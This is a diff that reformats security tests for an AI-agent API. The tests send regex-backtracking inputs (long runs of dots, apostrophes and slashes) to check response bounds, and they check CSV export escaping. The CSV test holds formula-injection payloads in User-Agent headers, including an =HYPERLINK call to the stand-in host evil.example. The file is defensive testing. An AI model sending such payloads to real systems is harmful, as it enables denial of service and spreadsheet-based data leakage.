@@ -27,11 +27,19 @@ beforeAll(async () => {
   server = await startServer()
   master = createApi(server.base, server.masterKey)
   site = await serveSite({
-    '/': { body: html('Wombat Bikes | Home', '<h1>Wombat Bikes</h1><p>Wombat Bikes repairs bicycles in Perth.</p><p>A puncture repair costs $12.</p>') },
+    '/': {
+      body: html(
+        'Wombat Bikes | Home',
+        '<h1>Wombat Bikes</h1><p>Wombat Bikes repairs bicycles in Perth.</p><p>A puncture repair costs $12.</p>',
+      ),
+    },
   })
   t = await createTenant(master)
   agentId = await buildAgent(t.api, t.accountId, `${site.origin}/`, { language: 'en' })
-  const p = await t.api.patch(`/agents/${agentId}`, { capabilities: ['capture_lead'], capability_settings: { lead_emails: ['sales@example.com'] } })
+  const p = await t.api.patch(`/agents/${agentId}`, {
+    capabilities: ['capture_lead'],
+    capability_settings: { lead_emails: ['sales@example.com'] },
+  })
   expect(p.status, p.text).toBe(200)
 }, 300_000)
 
@@ -40,7 +48,11 @@ afterAll(async () => {
   await server?.stop('SIGKILL')
 })
 
-interface Probed { r: ApiResponse; ms: number; slowest: number }
+interface Probed {
+  r: ApiResponse
+  ms: number
+  slowest: number
+}
 
 /**
  * Runs one request while polling GET /v1/health every 100 ms from the start of the request until it has
@@ -77,12 +89,18 @@ async function probed(request: () => Promise<ApiResponse>): Promise<Probed> {
  * longer than that, so its time is allowed on top: the bound catches what the old patterns did (seconds
  * to hours of one blocked event loop), not the machine's load.
  */
-async function withinBound(label: string, control: () => Promise<ApiResponse>, hostile: () => Promise<ApiResponse>): Promise<ApiResponse> {
+async function withinBound(
+  label: string,
+  control: () => Promise<ApiResponse>,
+  hostile: () => Promise<ApiResponse>,
+): Promise<ApiResponse> {
   const c = await probed(control)
   const h = await probed(hostile)
   const slack = Math.max(c.ms, c.slowest)
-  console.log(`${label}: control ${c.r.status} in ${c.ms.toFixed(0)} ms (slowest health ${c.slowest.toFixed(0)} ms); ` +
-    `hostile ${h.r.status} in ${h.ms.toFixed(0)} ms (slowest health ${h.slowest.toFixed(0)} ms); bound ${(BOUND_MS + slack).toFixed(0)} ms`)
+  console.log(
+    `${label}: control ${c.r.status} in ${c.ms.toFixed(0)} ms (slowest health ${c.slowest.toFixed(0)} ms); ` +
+      `hostile ${h.r.status} in ${h.ms.toFixed(0)} ms (slowest health ${h.slowest.toFixed(0)} ms); bound ${(BOUND_MS + slack).toFixed(0)} ms`,
+  )
   expect(h.ms, `${label} took ${h.ms.toFixed(0)} ms`).toBeLessThan(BOUND_MS + slack)
   expect(h.slowest, `a health probe took ${h.slowest.toFixed(0)} ms during ${label}`).toBeLessThan(BOUND_MS + slack)
   return h.r
@@ -93,15 +111,19 @@ describe('hostile input: every path answers within 1 s and health keeps answerin
     verifies('security.hostile-input.patterns')
     // "a@" then dots: /^[^\s@]+@[^\s@]+\.[^\s@]+$/ tried every split of the dots before failing on the space.
     const email = 'a@' + '.'.repeat(NEAR_LIMIT) + ' '
-    const r = await withinBound('POST /conversations identity.email 1.9 MB',
+    const r = await withinBound(
+      'POST /conversations identity.email 1.9 MB',
       () => t.api.post('/conversations', { agent_id: agentId, identity: { email: 'x'.repeat(email.length) } }),
-      () => t.api.post('/conversations', { agent_id: agentId, identity: { email } }))
+      () => t.api.post('/conversations', { agent_id: agentId, identity: { email } }),
+    )
     expect(r.status).toBe(400)
     expect(r.body.error).toMatchObject({ code: 'validation_error', field: 'identity.email' })
     // Just under the length bound the same shape is judged quickly, and still refused as an address.
-    const short = await withinBound('POST /conversations identity.email 1000',
+    const short = await withinBound(
+      'POST /conversations identity.email 1000',
       () => t.api.post('/conversations', { agent_id: agentId, identity: { email: 'x'.repeat(1000) } }),
-      () => t.api.post('/conversations', { agent_id: agentId, identity: { email: 'a@' + '.'.repeat(997) + ' ' } }))
+      () => t.api.post('/conversations', { agent_id: agentId, identity: { email: 'a@' + '.'.repeat(997) + ' ' } }),
+    )
     expect(short.body.error).toMatchObject({ code: 'invalid_email', field: 'identity.email' })
   })
 
@@ -109,7 +131,9 @@ describe('hostile input: every path answers within 1 s and health keeps answerin
     verifies('security.hostile-input.patterns')
     // Phone: 6,400 sentences that each share their words with every rule (the scan compared every rule with
     // every sentence); chat and voice: one word with a run of apostrophes inside (/'+$/ retried from each).
-    const instructions = 'Always quote the price of item. Never quote the price of item. '.repeat(3200).slice(0, 200_000)
+    const instructions = 'Always quote the price of item. Never quote the price of item. '
+      .repeat(3200)
+      .slice(0, 200_000)
     const chat = 'a' + "'".repeat(199_997) + 'b.'
     const voice = 'Avoid ' + "'".repeat(199_990) + 'x.'
     // Each rule: valid, 500 characters once normalised, ending in a run the old trailing-noise pattern retried.
@@ -119,58 +143,99 @@ describe('hostile input: every path answers within 1 s and health keeps answerin
     // sentence per prompt).
     const prose = (seed: string) => `${seed} `.repeat(40_000).slice(0, 200_000)
     const control = {
-      instructions: prose('give'), chat_instructions: prose('offer'), voice_chat_instructions: prose('say'),
-      refinement_rules: Array.from({ length: 100 }, (_, i) => `Mention the opening hours when asked about visit ${i} ` + 'and stay polite '.repeat(28)),
+      instructions: prose('give'),
+      chat_instructions: prose('offer'),
+      voice_chat_instructions: prose('say'),
+      refinement_rules: Array.from(
+        { length: 100 },
+        (_, i) => `Mention the opening hours when asked about visit ${i} ` + 'and stay polite '.repeat(28),
+      ),
     }
-    const r = await withinBound('PATCH /agents refinement_rules + 3 × 200k prompts', () => t.api.patch(`/agents/${agentId}`, control), () => t.api.patch(`/agents/${agentId}`, body))
+    const r = await withinBound(
+      'PATCH /agents refinement_rules + 3 × 200k prompts',
+      () => t.api.patch(`/agents/${agentId}`, control),
+      () => t.api.patch(`/agents/${agentId}`, body),
+    )
     expect(r.status, r.text.slice(0, 300)).toBe(200)
     expect(r.body.refinement.rules).toHaveLength(100)
-    expect(r.body.refinement.conflicts.some((c: any) => c.with.kind === 'prompt' && c.with.surface === 'phone')).toBe(true)
+    expect(r.body.refinement.conflicts.some((c: any) => c.with.kind === 'prompt' && c.with.surface === 'phone')).toBe(
+      true,
+    )
     // A prompt or a rule over its bound is refused before any pattern.
-    const big = await withinBound('PATCH /agents instructions 1.9 MB',
+    const big = await withinBound(
+      'PATCH /agents instructions 1.9 MB',
       () => t.api.patch(`/agents/${agentId}`, { instructions: 'x'.repeat(NEAR_LIMIT) }),
-      () => t.api.patch(`/agents/${agentId}`, { instructions: "'".repeat(NEAR_LIMIT) }))
+      () => t.api.patch(`/agents/${agentId}`, { instructions: "'".repeat(NEAR_LIMIT) }),
+    )
     expect(big.status).toBe(400)
-    const bigRule = await withinBound('PATCH /agents refinement rule 1.9 MB',
+    const bigRule = await withinBound(
+      'PATCH /agents refinement rule 1.9 MB',
       () => t.api.patch(`/agents/${agentId}`, { refinement_rules: ['x'.repeat(NEAR_LIMIT)] }),
-      () => t.api.patch(`/agents/${agentId}`, { refinement_rules: ['. '.repeat(NEAR_LIMIT / 2) + 'x'] }))
+      () => t.api.patch(`/agents/${agentId}`, { refinement_rules: ['. '.repeat(NEAR_LIMIT / 2) + 'x'] }),
+    )
     expect(bigRule.status).toBe(400)
   })
 
   it('chat message: the engine indexes 1.1 MB of knowledge and scores a 10,000-character question of 1,700 of its terms', async () => {
     verifies('security.hostile-input.patterns')
     // The whole chat prompt becomes knowledge the local engine indexes: one sentence of 200,000 characters.
-    const knowledge = '## Knowledge\n' + Array.from({ length: 25_000 }, (_, i) => `w${i.toString(36)}`).join(' ').slice(0, 199_000)
+    const knowledge =
+      '## Knowledge\n' +
+      Array.from({ length: 25_000 }, (_, i) => `w${i.toString(36)}`)
+        .join(' ')
+        .slice(0, 199_000)
     // The control: the same size of knowledge in ordinary sentences, and an ordinary question of the same size.
-    const prose = '## Knowledge\n' + Array.from({ length: 25_000 }, (_, i) => `Item ${i} costs ${i} dollars.`).join(' ').slice(0, 199_000)
+    const prose =
+      '## Knowledge\n' +
+      Array.from({ length: 25_000 }, (_, i) => `Item ${i} costs ${i} dollars.`)
+        .join(' ')
+        .slice(0, 199_000)
     const question = 'Do you repair bikes? '.repeat(500).slice(0, 10_000)
     // Knowledge the engine scores every question against: a kept-verbatim document of 900,000 characters.
-    const catalogue = Array.from({ length: 36_000 }, (_, i) => `Item w${i.toString(36)} costs ${i} dollars.`).join(' ').slice(0, 900_000)
-    const doc = await t.api.post(`/agents/${agentId}/kb/documents`, { title: 'Catalogue', text: catalogue, keep_verbatim: true })
+    const catalogue = Array.from({ length: 36_000 }, (_, i) => `Item w${i.toString(36)} costs ${i} dollars.`)
+      .join(' ')
+      .slice(0, 900_000)
+    const doc = await t.api.post(`/agents/${agentId}/kb/documents`, {
+      title: 'Catalogue',
+      text: catalogue,
+      keep_verbatim: true,
+    })
     expect(doc.status, doc.text.slice(0, 200)).toBe(202)
     for (let i = 0; ; i++) {
       const d = await t.api.get(`/agents/${agentId}/kb/documents/${doc.body.doc_id}`)
-      if (d.body.status !== 'processing') { expect(d.body.status).toBe('indexed'); break }
+      if (d.body.status !== 'processing') {
+        expect(d.body.status).toBe('indexed')
+        break
+      }
       expect(i).toBeLessThan(600)
       await sleep(200)
     }
     const conversation = async (chatInstructions: string) => {
-      expect((await t.api.patch(`/agents/${agentId}`, { chat_instructions: chatInstructions, refinement_rules: [] })).status).toBe(200)
+      expect(
+        (await t.api.patch(`/agents/${agentId}`, { chat_instructions: chatInstructions, refinement_rules: [] })).status,
+      ).toBe(200)
       const c = await t.api.post('/conversations', { agent_id: agentId })
       expect(c.status).toBe(201)
       return c.body.conversation_id as string
     }
     // A lead request (so the engine looks for an address in it) made of 1,700 distinct terms of the knowledge:
     // BM25 counted each term through every token of the knowledge (terms × tokens).
-    const text = ('Call me ' + Array.from({ length: 1700 }, (_, i) => `w${(i * 19).toString(36)}`).join(' ')).slice(0, 10_000)
-    const r = await withinBound('POST /conversations/{conv}/messages 10k question over 1.1 MB knowledge',
+    const text = ('Call me ' + Array.from({ length: 1700 }, (_, i) => `w${(i * 19).toString(36)}`).join(' ')).slice(
+      0,
+      10_000,
+    )
+    const r = await withinBound(
+      'POST /conversations/{conv}/messages 10k question over 1.1 MB knowledge',
       async () => t.api.post(`/conversations/${await conversation(prose)}/messages`, { text: question }),
-      async () => t.api.post(`/conversations/${await conversation(knowledge)}/messages`, { text }))
+      async () => t.api.post(`/conversations/${await conversation(knowledge)}/messages`, { text }),
+    )
     expect(r.status, r.text.slice(0, 300)).toBe(200)
     const conv = await conversation(knowledge)
-    const big = await withinBound('POST /conversations/{conv}/messages 1.9 MB',
+    const big = await withinBound(
+      'POST /conversations/{conv}/messages 1.9 MB',
       () => t.api.post(`/conversations/${conv}/messages`, { text: 'x '.repeat(NEAR_LIMIT / 2) }),
-      () => t.api.post(`/conversations/${conv}/messages`, { text: 'a'.repeat(NEAR_LIMIT) }))
+      () => t.api.post(`/conversations/${conv}/messages`, { text: 'a'.repeat(NEAR_LIMIT) }),
+    )
     expect(big.status).toBe(400)
   })
 
@@ -179,13 +244,24 @@ describe('hostile input: every path answers within 1 s and health keeps answerin
     // Address characters with no @ (the e-mail pattern retried from each), then digit groups (cards, phones).
     const note = 'a'.repeat(NEAR_LIMIT - 200_000) + '1 '.repeat(100_000)
     const plain = 'hello world '.repeat(Math.ceil(note.length / 12)).slice(0, note.length)
-    const create = (text: string) => t.api.post('/conversations', { agent_id: agentId, custom: { note: text }, identity: { email: 'jane@example.com' } })
-    const c = await withinBound('POST /conversations custom 1.9 MB', () => create(plain), () => create(note))
+    const create = (text: string) =>
+      t.api.post('/conversations', {
+        agent_id: agentId,
+        custom: { note: text },
+        identity: { email: 'jane@example.com' },
+      })
+    const c = await withinBound(
+      'POST /conversations custom 1.9 MB',
+      () => create(plain),
+      () => create(note),
+    )
     expect(c.status).toBe(201)
     const control = await create(plain)
-    const r = await withinBound('GET /conversations/{conv}?redact=true',
+    const r = await withinBound(
+      'GET /conversations/{conv}?redact=true',
       () => t.api.get(`/conversations/${control.body.conversation_id}?redact=true`),
-      () => t.api.get(`/conversations/${c.body.conversation_id}?redact=true`))
+      () => t.api.get(`/conversations/${c.body.conversation_id}?redact=true`),
+    )
     expect(r.status).toBe(200)
     expect(r.body.data?.identity?.email ?? r.body.identity?.email).toBe('**************om')
   })
@@ -197,7 +273,11 @@ describe('hostile input outside the four named paths', () => {
     // A path is bounded by the header limit (16 KB), so four such requests at once: each one used to hold the
     // event loop for most of a second.
     const four = (path: string) => async () => (await Promise.all([1, 2, 3, 4].map(() => master.get(path))))[3]
-    const r = await withinBound('4 × GET /v1/<15,000 slashes>x', four('/' + 'a'.repeat(15_000) + 'x'), four('/' + '/'.repeat(15_000) + 'x'))
+    const r = await withinBound(
+      '4 × GET /v1/<15,000 slashes>x',
+      four('/' + 'a'.repeat(15_000) + 'x'),
+      four('/' + '/'.repeat(15_000) + 'x'),
+    )
     expect(r.status).toBe(404)
   })
 
@@ -214,9 +294,11 @@ describe('hostile input outside the four named paths', () => {
         await sleep(200)
       }
     }
-    const d = await withinBound('POST kb/documents text 1.9 MB + ingest',
+    const d = await withinBound(
+      'POST kb/documents text 1.9 MB + ingest',
       () => ingest('word '.repeat(NEAR_LIMIT / 5 - 1) + 'end'),
-      () => ingest(' '.repeat(NEAR_LIMIT) + 'end'))
+      () => ingest(' '.repeat(NEAR_LIMIT) + 'end'),
+    )
     expect(d.body.status).toBe('indexed')
   })
 })
@@ -230,15 +312,27 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i]
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { field += '"'; i++ }
-      else if (c === '"') quoted = false
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"'
+        i++
+      } else if (c === '"') quoted = false
       else field += c
     } else if (c === '"' && field === '') quoted = true
-    else if (c === ',') { row.push(field); field = '' }
-    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++ }
-    else field += c
+    else if (c === ',') {
+      row.push(field)
+      field = ''
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field)
+      rows.push(row)
+      row = []
+      field = ''
+      i++
+    } else field += c
   }
-  if (field !== '' || row.length) { row.push(field); rows.push(row) }
+  if (field !== '' || row.length) {
+    row.push(field)
+    rows.push(row)
+  }
   return rows
 }
 
@@ -247,8 +341,15 @@ describe('audit CSV export', () => {
     verifies('security.csv-formula')
     const from = new Date(Date.now() - 2000).toISOString()
     const tag = `csv-${process.pid}-${Date.now().toString(36)}`
-    const agents = [`=HYPERLINK("http://evil.example/${tag}","x")`, `+1+1 ${tag}`, `-2+3 ${tag}`, `@SUM(1) ${tag}`, `plain ${tag}`]
-    for (const ua of agents) expect((await master.get('/users?limit=1', { headers: { 'user-agent': ua } })).status).toBe(200)
+    const agents = [
+      `=HYPERLINK("http://evil.example/${tag}","x")`,
+      `+1+1 ${tag}`,
+      `-2+3 ${tag}`,
+      `@SUM(1) ${tag}`,
+      `plain ${tag}`,
+    ]
+    for (const ua of agents)
+      expect((await master.get('/users?limit=1', { headers: { 'user-agent': ua } })).status).toBe(200)
     let mine: string[][] = []
     let col = -1
     for (let i = 0; i < 60 && mine.length < agents.length; i++) {
@@ -260,6 +361,14 @@ describe('audit CSV export', () => {
       mine = records.filter((rec) => rec[col]?.includes(tag))
     }
     const cells = mine.map((rec) => rec[col]).sort()
-    expect(cells).toEqual([`'+1+1 ${tag}`, `'-2+3 ${tag}`, `'=HYPERLINK("http://evil.example/${tag}","x")`, `'@SUM(1) ${tag}`, `plain ${tag}`].sort())
+    expect(cells).toEqual(
+      [
+        `'+1+1 ${tag}`,
+        `'-2+3 ${tag}`,
+        `'=HYPERLINK("http://evil.example/${tag}","x")`,
+        `'@SUM(1) ${tag}`,
+        `plain ${tag}`,
+      ].sort(),
+    )
   })
 })
